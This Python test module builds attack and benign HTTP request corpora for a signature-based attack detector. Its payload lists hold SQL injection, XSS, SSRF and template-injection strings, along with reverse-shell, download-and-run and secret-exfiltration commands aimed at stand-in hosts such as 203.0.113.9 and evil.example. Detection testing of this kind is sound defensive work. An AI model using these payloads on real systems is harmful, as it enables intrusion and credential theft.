"""A deterministic attack + benign corpus for the signature engine (tests and bench).

Attack payloads are written from public knowledge of each attack class (classic probes as they
appear in security training material and scanner output), then varied: URL-encoded, double-encoded,
case-mixed, comment/whitespace obfuscated, fullwidth Unicode, base64-wrapped, JSON-escaped, and
placed in a query parameter, a JSON body field, a header and a path segment -- each the way the
sensor would see it (query strings are parsed, paths stay percent-encoded, JSON is decoded).

The benign side: CSIC 2010 normal web-shop traffic, Stripe fixture objects as JSON bodies, and
synthetic API requests with natural-language text that uses SQL and shell words, code snippets,
non-English text, base64 images, JWTs, UUIDs and URLs.
"""

# ruff: noqa: RUF001  (fullwidth and other look-alike characters are the test data)
from __future__ import annotations

import base64
import gzip
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, quote, urlencode

from sensor.signatures import ScanItem, build_items
from tests.corpora import CORPORA

CSIC = CORPORA / "traffic" / "csic-normal-training.jsonl.gz"
STRIPE = CORPORA / "specs" / "stripe" / "fixtures3.json"


@dataclass(frozen=True)
class Request:
    kind: str  # "attack" | "benign"
    category: str  # attack category, or benign source
    variant: str
    placement: str
    path: str = "/"
    query: tuple[tuple[str, str], ...] = ()
    headers: tuple[tuple[str, str], ...] = ()
    cookies: tuple[tuple[str, str], ...] = ()
    body: tuple[tuple[str, object], ...] = field(default=())

    def items(self) -> list[ScanItem]:
        return build_items(self.path, self.query, self.headers, self.cookies, self.body)


# --------------------------------------------------------------------------------------------------
# attack payloads (value payloads, and ("key", name) payloads for operator/prototype keys)

# A Java serialization stream header followed by a class descriptor of java.util.HashMap.
_JAVA_SER = bytes.fromhex("aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246")
# A pickle (protocol 4) that calls os.system -- only its bytes, never unpickled.
_PICKLE = (
    b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x02id\x94\x85\x94R\x94."
)

PAYLOADS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "' OR 1=1-- ",
        "admin'--",
        "1 UNION SELECT username, password FROM users--",
        "' UNION ALL SELECT NULL,NULL,NULL--",
        "1; DROP TABLE users--",
        "1' AND SLEEP(5)#",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "'; WAITFOR DELAY '0:0:5'--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "1' ORDER BY 3--",
        "' AND 1=CONVERT(int,@@version)--",
        "1' AND benchmark(5000000,md5(1))#",
        '" OR ""="',
        "') OR ('1'='1",
        "1 OR 1=1",
        "' || pg_sleep(5)--",
        "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "-1 UNION SELECT table_name FROM information_schema.tables",
        "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
        "' UNION SELECT load_file('/etc/passwd')--",
        "1;EXEC xp_cmdshell('dir')--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg onload=alert(1)>",
        '"><script>alert(String.fromCharCode(88,83,83))</script>',
        "javascript:alert(document.domain)",
        "<body onload=alert('xss')>",
        '" onmouseover="alert(1)',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
        "<details open ontoggle=prompt(1)>",
        "'-alert(1)-'",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<div style="width:expression(alert(1))">',
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`whoami`",
        "$(whoami)",
        "; ping -c 5 127.0.0.1",
        "|| sleep 5",
        "; wget http://203.0.113.9/x.sh -O /tmp/x",
        "& dir c:\\",
        "| net user",
        "127.0.0.1; uname -a",
        "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "; nc -e /bin/sh 203.0.113.9 4444",
        "a;ls -la",
        "& cmd.exe /c whoami",
        "; powershell -enc SQBFAFgA",
        "| curl http://203.0.113.9/$(id)",
        "; /bin/cat /etc/shadow",
    ],
    "path_traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "..%c0%af..%c0%af..%c0%afetc/passwd",
        "/var/www/html/../../../etc/shadow",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "..;/..;/WEB-INF/web.xml",
        "C:\\boot.ini",
        "../../../../home/app/.ssh/id_rsa",
        "..%252f..%252f..%252fetc%252fpasswd",
    ],
    "rfi": [
        "http://evil.example/shell.txt?",
        "https://203.0.113.7/c99.php?",
        "ftp://attacker.example/inc.txt?",
        "http://203.0.113.7/backdoor.php",
        "http://evil.example/r57.txt??",
        "\\\\203.0.113.7\\share\\shell.php",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "http://localhost:22/",
        "http://[::1]/admin",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://10.0.0.5:8080/internal",
        "gopher://127.0.0.1:6379/_INFO",
        "dict://localhost:11211/stats",
        "file:///etc/passwd",
        "http://expected.example@192.168.1.1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        "http://127.0.0.1.nip.io/",
        "http://2852039166/latest/",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data>1</data>',
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" "http://evil.example/a">]><r>&x;</r>',
    ],
    "nosqli": [
        '{"$gt": ""}',
        '{"$ne": null}',
        "'; return true; var x='",
        "'; while(true){}; var x='",
        "' || '1'=='1",
        '{"$where": "sleep(5000)"}',
        "db.users.find({})",
        '{"username": {"$regex": "^adm"}}',
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        '#set($x=1)$class.inspect("java.lang.Runtime")',
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "*{7*7}",
        "<%= system('id') %>",
        "{php}echo `id`;{/php}",
        '{{_self.env.registerUndefinedFilterCallback("exec")}}',
        "@(7*7)",
    ],
    "ldapi": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectclass=*))",
        "admin)(|(password=*))",
        "*)(cn=*",
        "x)(|(mail=*@*))",
        "*))%00",
        "(&(uid=admin)(!(&(1=0)(userPassword=*))))",
    ],
    "jndi": [
        "${jndi:ldap://203.0.113.9:1389/a}",
        "${jndi:rmi://evil.example/x}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "${j${::-n}di:dns://evil.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
        "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/x}",
    ],
    "crlf": [
        "foo\r\nSet-Cookie: session=attacker",
        "/\r\nLocation: https://evil.example/",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        "en\r\nX-XSS-Protection: 0",
        "a\nSet-Cookie: admin=1",
        "y\r\nAccess-Control-Allow-Origin: https://evil.example",
    ],
    "prototype_pollution": [
        '{"__proto__": {"isAdmin": true}}',
        '{"constructor": {"prototype": {"isAdmin": true}}}',
        "__proto__[isAdmin]=true",
        "constructor.prototype.isAdmin=true",
    ],
    "deserialization": [
        base64.b64encode(_JAVA_SER).decode(),
        _JAVA_SER.hex(),
        'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}',
        'a:2:{i:0;s:4:"test";i:1;O:7:"Exploit":0:{}}',
        base64.b64encode(_PICKLE).decode(),
        "cos\nsystem\n(S'id'\ntR.",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw==",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
        "!!python/object/apply:os.system ['id']",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x","autoCommit":true}',
    ],
    "scanner": [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "gobuster/3.6",
        "Mozilla/4.0 (Hydra)",
        "Mozilla/5.0 zgrab/0.x",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Wfuzz/3.1.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
        "Safari/537.36 Acunetix",
        "feroxbuster/2.10.1",
        "Mozilla/5.0 (compatible; OpenVAS)",
        "commix/v3.8 (https://commixproject.com)",
    ],
}

# Payloads that belong in a parameter *name* / JSON key: (query name, JSON key path)
KEY_PAYLOADS: dict[str, list[tuple[str, str]]] = {
    "nosqli": [
        ("username[$ne]", "username.$ne"),
        ("password[$gt]", "password.$gt"),
        ("user[$regex]", "user.$regex"),
        ("$where", "$where"),
        ("filter[$or][0][role]", "filter.$or.0.role"),
    ],
    "prototype_pollution": [
        ("__proto__[isAdmin]", "__proto__.isAdmin"),
        ("constructor[prototype][isAdmin]", "constructor.prototype.isAdmin"),
        ("a[__proto__][polluted]", "a.__proto__.polluted"),
    ],
}

# Obfuscations that keep the attack meaningful per category (case-mixing a base64 marker is not an
# attack any more; fullwidth forms only matter where an application normalises text).
_CASELESS = {
    "sqli",
    "xss",
    "command_injection",
    "path_traversal",
    "rfi",
    "ssrf",
    "xxe",
    "ssti",
    "ldapi",
    "jndi",
    "crlf",
}
_COMMENT = {"sqli": "/**/", "command_injection": "${IFS}", "xss": "/"}
_NO_FULLWIDTH = {"deserialization", "scanner", "crlf"}


def _mixed_case(s: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _fullwidth(s: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else ("\u3000" if c == " " else c) for c in s)


def _whitespace(s: str, rng: random.Random) -> str:
    return "".join(rng.choice(["\t", "  ", "\n", " \t", "\r\n "]) if c == " " else c for c in s)


def _json_escaped(s: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>'\"&/()$;|" else c for c in s)


def _variants(category: str, payload: str, rng: random.Random) -> Iterator[tuple[str, str]]:
    yield "classic", payload
    if category == "scanner":
        yield "case", _mixed_case(payload, rng)
        return
    yield "urlenc", quote(payload, safe="")
    yield "double_urlenc", quote(quote(payload, safe=""), safe="")
    yield "base64", base64.b64encode(payload.encode()).decode()
    if category in _CASELESS:
        yield "case", _mixed_case(payload, rng)
    if " " in payload and category != "deserialization":
        yield "whitespace", _whitespace(payload, rng)
    if category in _COMMENT and " " in payload:
        yield "comment", payload.replace(" ", _COMMENT[category])
    if category not in _NO_FULLWIDTH:
        yield "fullwidth", _fullwidth(payload)
    if category != "deserialization":
        yield "json_escaped", _json_escaped(payload)


_UA = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15"
)
_BASE_HEADERS: tuple[tuple[str, str], ...] = (
    ("User-Agent", _UA),
    ("Accept", "application/json"),
    ("Content-Type", "application/json"),
    ("X-Request-Id", "3f1c2a9e-7b4d-4e8a-9c1f-2d5e6a7b8c9d"),
)
_HEADER_FOR = {"jndi": "User-Agent", "ssrf": "X-Callback-Url", "rfi": "X-Callback-Url"}


def _header_safe(value: str) -> bool:
    # A header value cannot carry CR/LF or other control characters on the wire.
    return all(ord(c) >= 0x20 or c == "\t" for c in value)


def _attack_requests(category: str, variant: str, value: str) -> Iterator[Request]:
    if category == "scanner":
        headers = (("User-Agent", value), ("Accept", "*/*"))
        yield Request("attack", category, variant, "header", "/api/v1/status", headers=headers)
        return
    # query: the wire form is encoded once more by the client and parsed back by the sensor
    wire = urlencode([("q", value), ("page", "1")])
    query = tuple(parse_qsl(wire, keep_blank_values=True))
    yield Request("attack", category, variant, "query", "/api/v1/search", query=query, headers=_BASE_HEADERS)
    body = (("customer.name", "Alice"), ("comment", value), ("quantity", 2))
    yield Request("attack", category, variant, "body", "/api/v1/orders", headers=_BASE_HEADERS, body=body)
    if _header_safe(value):
        hname = _HEADER_FOR.get(category, "X-Tenant-Id")
        headers = (*(h for h in _BASE_HEADERS if h[0] != hname), (hname, value))
        yield Request("attack", category, variant, "header", "/api/v1/profile", headers=headers)
    path = "/api/v1/files/" + quote(value, safe="/;=,@!$'()*+&:")
    yield Request("attack", category, variant, "path", path, headers=_BASE_HEADERS)


def attack_corpus() -> list[Request]:
    rng = random.Random(1337)
    out: list[Request] = []
    for category, payloads in PAYLOADS.items():
        for payload in payloads:
            for variant, value in _variants(category, payload, rng):
                out.extend(_attack_requests(category, variant, value))
    for category, keys in KEY_PAYLOADS.items():
        for qname, jkey in keys:
            query = tuple(parse_qsl(urlencode([(qname, "x")])))
            out.append(Request("attack", category, "key", "query", "/api/v1/login", query=query, headers=_BASE_HEADERS))
            body = (("email", "alice@example.com"), (jkey, None))
            out.append(Request("attack", category, "key", "body", "/api/v1/login", headers=_BASE_HEADERS, body=body))
    return out


# --------------------------------------------------------------------------------------------------
# benign traffic


def csic_requests(step: int = 12) -> list[Request]:
    """Every ``step``-th CSIC 2010 normal request (step=1: all 36,000)."""
    out: list[Request] = []
    with gzip.open(CSIC, "rt", encoding="utf-8") as fh:
        for i, line in enumerate(fh):
            if i % step:
                continue
            rec = json.loads(line)
            path, _, qs = rec["uri"].partition("?")
            query = tuple(parse_qsl(qs, keep_blank_values=True, encoding="latin-1"))
            headers = tuple((k, v) for k, v in rec["headers"].items() if k.lower() != "cookie")
            cookie = rec["headers"].get("Cookie", "")
            cookies = tuple((k.strip(), v) for k, _, v in (c.partition("=") for c in cookie.split(";")) if k.strip())
            body: tuple[tuple[str, object], ...] = ()
            if rec.get("body"):
                body = tuple(parse_qsl(rec["body"], keep_blank_values=True, encoding="latin-1"))
            out.append(Request("benign", "csic", "normal", "mixed", path, query, headers, cookies, body))
    return out


def flatten(doc: object, prefix: str = "") -> Iterator[tuple[str, object]]:
    if isinstance(doc, dict):
        for k, v in doc.items():
            yield from flatten(v, f"{prefix}.{k}" if prefix else str(k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc[:20]):
            yield from flatten(v, f"{prefix}.{i}" if prefix else str(i))
    else:
        yield prefix, doc


def stripe_requests() -> list[Request]:
    resources = json.loads(STRIPE.read_text())["resources"]
    headers = (("User-Agent", "Stripe/v1 PythonBindings/7.9.0"), ("Content-Type", "application/json"))
    out = []
    for name, obj in sorted(resources.items()):
        body = tuple(flatten(obj))
        out.append(Request("benign", "stripe", name, "body", f"/v1/{name}s", headers=headers, body=body))
    return out


NATURAL_TEXT = [
    "select the best option from the menu and drop me a line",
    "please update my order; delete the old address",
    "Can you select a table for two by the window? We'll drop by at 8.",
    "I want to union the two teams and select a leader from each group",
    "Drop the package at the front desk or leave it with the neighbour",
    "Delete my account and all data from your database, thanks",
    "Insert the card into the reader and select 'pay'",
    "The union selected its new president on Friday",
    "Order by Friday to get free shipping; update your address if needed",
    "Where can I find the table of contents?",
    "She said 'yes' and we booked the trip",
    "It's a 1-to-1 meeting, or 2 if John joins",
    "Rock 'n' roll & blues night -- tickets from $10",
    "Tom & Jerry; cat lovers unite!",
    "Please echo my concerns to the team | thanks",
    "I'll ping you when the cat is fed & the dog is out",
    "Type your password, then select Sign in",
    "Find more options in Settings > Privacy & Security",
    "You can sleep (8 hours a day is recommended)",
    "The script for the play was great; the actors were even better",
    "Alert: your order #1234 has shipped",
    "Please confirm (yes/no) by replying to this email",
    "We need to drop support for IE 11 and update the docs",
    "Exec summary: revenue is up 12% or more, depending on FX",
    "The value must be 1=1 or higher, said the teacher jokingly",
    "Call me at 555-0100 or email me; I'm free after 5",
    "Let's grab lunch -- 12:30 or 1?",
    "My name is O'Brien and I live at 12 O'Connell St.",
    "Rate us 5/5 if you liked it! <3",
    "Use the /help command or ask in #general",
    "Price: $5 & up; limit 2 per customer",
    "Kill two birds with one stone; cat naps are the best",
    "Net income rose; see the table below",
    "Head to the store & grab some milk",
    'He said "or else" and left the room',
    "The SELECT committee met on Monday and dropped the motion",
    "I'd like to cancel and get a refund for order 5521, or exchange it",
    "Set the thermostat to 21 and sleep well",
    "Join us for a union meeting: select members only",
    "From the menu, select Export, then choose CSV or JSON",
]

NON_ENGLISH = [
    "Por favor, seleccione la mejor opción del menú y envíeme un mensaje",
    "Veuillez mettre à jour ma commande ; supprimez l'ancienne adresse",
    "Bitte wählen Sie die beste Option aus dem Menü und löschen Sie die alte Adresse",
    "ご注文を更新して、古い住所を削除してください",
    "Пожалуйста, обновите мой заказ; удалите старый адрес",
    "请从菜单中选择最佳选项，并删除旧地址",
    "Lütfen siparişimi güncelleyin; eski adresi silin",
    "يرجى تحديث طلبي وحذف العنوان القديم",
    "Per favore aggiorna il mio ordine e cancella il vecchio indirizzo",
    "Proszę zaktualizować moje zamówienie; usuń stary adres",
]

CODE_SNIPPETS = [
    "def add(a, b):\n    return a + b\n",
    "const total = items.reduce((sum, i) => sum + i.price, 0);",
    "for (let i = 0; i < n; i++) { console.log(`item ${i}`); }",
    "SELECT id, name FROM customers WHERE country = ? ORDER BY name",
    "if (user && user.isActive) { return res.json(user); }",
    "docker run -p 8080:80 nginx:latest",
    'git commit -m "fix: handle empty cart" && git push',
    'func main() { fmt.Println("hello") }',
    "SELECT COUNT(*) FROM orders",
    '{"name": "widget", "tags": ["a", "b"]}',
    "Hello {{first_name}}, your order {{order_id}} is on its way!",
    "<p>Thanks for your order!</p><p><b>Total:</b> 12.00 EUR</p>",
    "pip install requests==2.31.0",
    "curl -X POST https://api.example.com/v1/orders -H 'Content-Type: application/json'",
    "x = [i * i for i in range(10) if i % 2 == 0]",
    "UPDATE settings SET theme = 'dark' WHERE user_id = 42",
]

# A 1x1 transparent PNG, as sent by image upload APIs.
PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
URLS = [
    "https://www.example.com/products/123?ref=newsletter&utm_source=email",
    "https://cdn.example.net/images/2024/01/banner.png",
    "https://app.example.com/callback",
    "https://maps.example.org/?q=52.52,13.405",
    "https://example.com/search?q=select+the+best",
]


def _sentences() -> list[str]:
    rng = random.Random(7)
    verbs = ["select", "drop", "delete", "update", "insert", "find", "type", "echo", "cat", "sleep", "union", "exec"]
    objs = ["the table", "my order", "a line", "the file", "the old address", "your cat", "the menu", "a script"]
    joins = [" and ", " or ", "; ", " & ", " | ", " -- ", ", then ", " from ", " where "]
    tails = ["please.", "thanks!", "by Friday.", "if possible", "asap", "or not", "(optional)", "# urgent"]
    out = list(NATURAL_TEXT) + list(NON_ENGLISH)
    for _ in range(2000):
        s = (
            f"{rng.choice(verbs).capitalize()} {rng.choice(objs)}{rng.choice(joins)}"
            f"{rng.choice(verbs)} {rng.choice(objs)} {rng.choice(tails)}"
        )
        out.append(s)
    return out


def natural_language() -> list[str]:
    return _sentences()


def synthetic_requests(n: int = 600) -> list[Request]:
    rng = random.Random(42)
    sentences = _sentences()
    out = []
    for i in range(n):
        uid = "%08x-%04x-4%03x-a%03x-%012x" % (  # noqa: UP031 - a fixed-width hex layout reads best
            rng.getrandbits(32),
            rng.getrandbits(16),
            rng.getrandbits(12),
            rng.getrandbits(12),
            rng.getrandbits(48),
        )
        body: list[tuple[str, object]] = [
            ("id", uid),
            ("customer.email", f"user{i}@example.com"),
            ("customer.name", rng.choice(["Ana García", "José O'Neil", "Zoë Müller", "李雷", "Ivan Petrov"])),
            ("note", rng.choice(sentences)),
            ("description", rng.choice(NATURAL_TEXT + NON_ENGLISH)),
            ("snippet", rng.choice(CODE_SNIPPETS)),
            ("website", rng.choice(URLS)),
            ("avatar", "data:image/png;base64," + PNG_B64 if i % 3 else PNG_B64),
            ("token", JWT),
            ("amount", rng.randint(1, 100000)),
            ("currency", "eur"),
            ("created_at", "2024-01-15T10:20:30Z"),
            ("items.0.sku", f"SKU-{rng.randint(1000, 9999)}"),
            ("items.0.quantity", rng.randint(1, 5)),
        ]
        query = (("page", str(rng.randint(1, 9))), ("sort", "-created_at"), ("search", rng.choice(sentences)))
        headers = (
            (
                "User-Agent",
                rng.choice([_UA, "okhttp/4.12.0", "python-requests/2.31.0", "curl/8.4.0", "PostmanRuntime/7.36.0"]),
            ),
            ("Accept", "application/json, text/plain, */*"),
            ("Referer", "https://app.example.com/orders?tab=open"),
            ("Origin", "https://app.example.com"),
            ("sec-ch-ua", '"Chromium";v="120", "Not_A Brand";v="8", "Google Chrome";v="120"'),
            ("X-Request-Id", uid),
        )
        cookies = (("session", base64.urlsafe_b64encode(rng.randbytes(24)).decode()), ("theme", "dark"))
        out.append(
            Request(
                "benign", "synthetic", "api", "mixed", f"/api/v1/orders/{uid}", query, headers, cookies, tuple(body)
            )
        )
    return out


def benign_corpus(csic_step: int = 12) -> list[Request]:
    return csic_requests(csic_step) + stripe_requests() + synthetic_requests()
